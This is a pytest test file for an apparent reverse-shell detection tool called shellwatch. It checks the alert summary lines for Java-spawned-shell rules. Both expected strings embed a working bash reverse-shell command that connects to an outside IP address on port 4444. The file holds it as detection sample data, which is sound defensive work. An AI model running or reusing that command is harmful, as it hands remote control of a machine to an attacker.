"""``shellwatch demo``'s pure parts: the summary line printed above each alert."""

from __future__ import annotations

from typing import Any

import orjson
import pytest

from shellwatch.core.pipeline import Pipeline, PipelineConfig
from shellwatch.samples.build import sample_documents
from shellwatch.tools.demo import alert_summary
from tests.shared import RULE, SHELL_RULE

SEQUENCE_RULE = "potential-reverse-shell-via-java"
SHELL_RULE_ID = "shell-spawned-by-java"


@pytest.fixture(scope="module")
def sample_alerts() -> dict[str, dict[str, Any]]:
    """The sample's alerts by rule id, as the demo reads them back (plain JSON, events included)."""
    pipeline = Pipeline(RULE, PipelineConfig(), SHELL_RULE)
    alerts = [a for doc in sample_documents() for a in pipeline.process(orjson.dumps(doc), 0).alerts]
    alerts += pipeline.flush(0)
    decoded = [orjson.loads(orjson.dumps(alert)) for alert in alerts]
    by_rule = {alert["rule"]["id"]: alert for alert in decoded}
    assert sorted(by_rule) == [SEQUENCE_RULE, SHELL_RULE_ID]
    return by_rule


def test_sequence_alert_summary_shows_the_gap(sample_alerts: dict[str, dict[str, Any]]) -> None:
    assert alert_summary(sample_alerts[SEQUENCE_RULE]) == (
        "ALERT Potential Reverse Shell via Java [medium] host=srv-6f1c2a9e gap=1180ms "
        "shell='/bin/bash -c bash -i >& /dev/tcp/185.220.101.4/4444 0>&1' id=9a2864c79c630775"
    )


def test_shell_alert_summary_has_no_gap(sample_alerts: dict[str, dict[str, Any]]) -> None:
    line = alert_summary(sample_alerts[SHELL_RULE_ID])
    assert line == (
        "ALERT Shell process created by Java application [critical] host=srv-6f1c2a9e "
        "shell='/bin/bash -c bash -i >& /dev/tcp/185.220.101.4/4444 0>&1' id=3b060d373cc7f46f"
    )
    assert "gap=" not in line
